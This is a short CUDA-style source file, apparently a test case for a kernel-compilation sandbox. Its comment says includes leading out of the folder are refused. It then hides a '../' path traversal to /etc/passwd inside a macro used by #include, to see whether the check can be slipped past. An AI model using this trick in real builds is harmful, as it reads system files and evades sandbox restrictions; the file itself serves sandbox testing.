/* Includes a file of the folder's parents by a relative path.
 * Attacks: "names and symbolic links that lead out of it are refused" (kernels.md);
 * the compiler follows what the list of includes does not have. */
#define THERE "../../../../../../../../../../etc/passwd"
#include THERE

static __device__ void body(const Job &j)
{
	multiply(j);
}
